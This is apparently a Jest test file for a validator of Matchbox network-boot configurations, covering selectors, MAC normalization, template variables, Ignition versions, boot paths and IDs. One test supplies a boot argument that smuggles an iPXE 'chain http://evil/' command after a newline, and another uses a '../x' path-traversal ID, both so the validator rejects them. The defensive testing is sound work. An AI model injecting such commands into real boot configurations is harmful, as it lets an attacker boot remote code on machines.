import { MatchboxDataProps, MatchboxGroupProps, MatchboxProfileProps } from '../../../src/matchbox/model';
import { providedVariables, validateMatchbox } from '../../../src/matchbox/validate';
import { SEED003 } from './seed003';

const PATH = 'lab/matchbox';
const base: MatchboxProfileProps = { id: 'p', boot: { kernel: '/assets/k', initrd: ['/assets/i'], args: [] } };
const check = (data: Partial<MatchboxDataProps>) => validateMatchbox({ profiles: [base], groups: [], ...data }, PATH);
const props = (data: Partial<MatchboxDataProps>) => check(data).map((p) => p.property);
const group = (id: string, extra: Partial<MatchboxGroupProps> = {}): MatchboxGroupProps => ({ id, profile: 'p', ...extra });

describe('validateMatchbox', () => {
  it('accepts seed 003 as re-expressed', () => {
    expect(validateMatchbox(SEED003, PATH)).toEqual([]);
  });

  it('every problem carries the caller path, a reason and a fix', () => {
    const found = check({ groups: [group('a', { profile: 'missing' })] });
    expect(found).toEqual([
      expect.objectContaining({ path: PATH, property: 'groups[a].profile', value: 'missing', reason: expect.stringMatching(/no profile with this id/), fix: 'use one of: p' }),
    ]);
  });

  it('two default groups (empty selector) are ambiguous', () => {
    const found = check({ groups: [group('d1'), group('d2', { selector: {} })] });
    expect(found.map((p) => [p.property, p.reason])).toEqual([['groups[d2].selector', expect.stringMatching(/second default group .*"d1"/)]]);
  });

  it('identical selectors (after MAC normalization) are ambiguous', () => {
    const found = check({ groups: [group('a', { selector: { mac: '52:54:00:89:d8:10' } }), group('b', { selector: { mac: '52-54-00-89-D8-10' } })] });
    expect(found.map((p) => [p.property, p.reason])).toEqual([['groups[b].selector', expect.stringMatching(/same selector as group "a"/)]]);
    expect(props({ groups: [group('a', { selector: { os: 'x' } }), group('b', { selector: { os: 'y' } })] })).toEqual([]);
  });

  it('a MAC Go cannot parse makes Matchbox skip the group', () => {
    expect(props({ groups: [group('a', { selector: { mac: '52:54:00:89:d8' } })] })).toEqual(['groups[a].selector.mac']);
    // Hyphen and dotted forms are fine: Matchbox normalizes them.
    expect(props({ groups: [group('a', { selector: { mac: '5254.0089.d810' } })] })).toEqual([]);
  });

  it('a reserved selector key in another case never matches iPXE labels', () => {
    const found = check({ groups: [group('a', { selector: { MAC: '52:54:00:89:d8:10' } })] });
    expect(found.map((p) => p.fix)).toEqual(['spell the key "mac"']);
  });

  it('selector values must be strings', () => {
    const selector = { rack: 3 } as unknown as Record<string, string>;
    expect(check({ groups: [group('a', { selector })] }).map((p) => [p.property, p.value])).toEqual([['groups[a].selector.rack', 3]]);
  });

  it('template variables no group provides are reported per group (missingkey=error)', () => {
    const profile: MatchboxProfileProps = { ...base, generic: 'key={{.ssh_authorized_key}} mac={{.mac}} q={{.request.raw_query}} {{if index . "opt"}}{{.opt}}{{end}}' };
    const found = check({
      profiles: [profile],
      groups: [group('ok', { selector: { MAC: '52:54:00:89:d8:10' }, metadata: { ssh_authorized_key: 'k' } }), group('bad', { metadata: {} })],
    });
    // `MAC` still lower-cases into {{.mac}}; `request` is built in; `opt` is optional.
    expect(found.map((p) => p.property)).toEqual(['groups[ok].selector.MAC', 'groups[bad].metadata.mac', 'groups[bad].metadata.ssh_authorized_key']);
  });

  it('.mac/.uuid are NOT built in: only a selector provides them', () => {
    expect([...providedVariables(group('x'))]).toEqual(['request']);
    expect([...providedVariables(group('x', { selector: { Uuid: 'u' }, metadata: { k: 1 } }))].sort()).toEqual(['k', 'request', 'uuid']);
  });

  it('templated raw Ignition is flagged: Matchbox serves .ign files unrendered', () => {
    const found = check({ profiles: [{ ...base, ignition: { users: [{ name: 'core', sshAuthorizedKeys: ['{{.ssh_authorized_key}}'] }] } }] });
    expect(found.map((p) => [p.property, p.reason])).toEqual([['profiles[p].ignition', expect.stringMatching(/without rendering Go templates/)]]);
  });

  it('raw Ignition strings must be JSON with spec 3.0-3.4', () => {
    expect(props({ profiles: [{ ...base, ignition: '{"ignition":' }] })).toEqual(['profiles[p].ignition']);
    expect(props({ profiles: [{ ...base, ignition: '{"ignition":{"version":"2.3.0"}}' }] })).toEqual(['profiles[p].ignition.ignition.version']);
    expect(props({ profiles: [{ ...base, ignition: '{"ignition":{"version":"3.4.0"}}' }] })).toEqual([]);
  });

  it('builder problems inside a profile config are reported with the profile property', () => {
    expect(props({ profiles: [{ ...base, generic: { units: [{ name: 'nosuffix' }] } }] })).toEqual(['profiles[p].generic.units[0].name']);
  });

  it('kernel/initrd must be absolute http(s) or under /assets/', () => {
    const profile: MatchboxProfileProps = {
      id: 'p',
      boot: { kernel: 'assets/k', initrd: ['--name main /assets/ok', 'ftp://x/i', 'https://mirror/i'], args: ['a\nchain http://evil/'] },
    };
    expect(check({ profiles: [profile] }).map((p) => p.property)).toEqual(['profiles[p].boot.kernel', 'profiles[p].boot.initrd[1]', 'profiles[p].boot.args[0]']);
  });

  it('ids must be usable file names and unique; metadata "request" is overwritten', () => {
    const found = props({
      profiles: [base, { ...base }, { id: '../x' }],
      groups: [group('a/b'), group('g', { selector: { os: 'x' }, metadata: { request: 1, os: 'y' } }), group('g', { selector: { os: 'z' } })],
    });
    expect(found).toEqual([
      'profiles[p].id',
      'profiles[../x].id',
      'groups[a/b].id',
      'groups[g].metadata.request',
      'groups[g].metadata.os',
      'groups[g].id',
    ]);
  });
});
